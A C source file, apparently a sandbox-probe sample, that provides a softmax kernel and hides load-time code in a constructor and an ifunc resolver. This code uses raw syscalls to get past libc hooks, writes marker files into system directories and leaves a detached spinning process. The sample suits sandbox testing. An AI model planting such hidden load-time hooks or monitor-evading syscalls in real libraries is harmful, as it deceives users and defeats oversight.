/* Acts when the library is loaded: a constructor, and a function that the loader calls to find
 * another (ifunc). Both leave a process that goes on, and write a file wherever they may. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <math.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; ++r, x += cols, y += cols) {
    float most = -INFINITY;
    double sum = 0;
    for (int64_t i = 0; i < cols; ++i) most = fmaxf(most, x[i]);
    for (int64_t i = 0; i < cols; ++i) sum += y[i] = expf(x[i] - most);
    for (int64_t i = 0; i < cols; ++i) y[i] = (float)(y[i] / sum);
  }
}

static void act(void) {
  static const char* const places[] = {"/rooflane-owned",         "/etc/rooflane-owned",
                                       "/usr/lib/rooflane-owned", "/var/tmp/rooflane-owned",
                                       "/dev/shm/rooflane-owned", "/root/rooflane-owned"};
  for (unsigned i = 0; i < sizeof places / sizeof *places; ++i) {
    long file;
    /* The system call itself: whoever replaces open() of the C library does not see it. */
    __asm__ volatile("syscall"
                     : "=a"(file)
                     : "a"((long)SYS_open), "D"(places[i]), "S"((long)(O_CREAT | O_WRONLY)),
                       "d"(0644L)
                     : "rcx", "r11", "memory");
    if (file >= 0) close((int)file);
  }
}

__attribute__((constructor)) static void at_load(void) {
  act();
  if (fork() == 0) {
    setsid();
    alarm(120); /* should no jail end it */
    for (;;) {
    }
  }
}

typedef void Kernel(const float*, float*, int64_t, int64_t);
static Kernel* resolve(void) {
  act();
  return naive;
}
void softmax(const float* x, float* y, int64_t rows, int64_t cols)
    __attribute__((ifunc("resolve")));
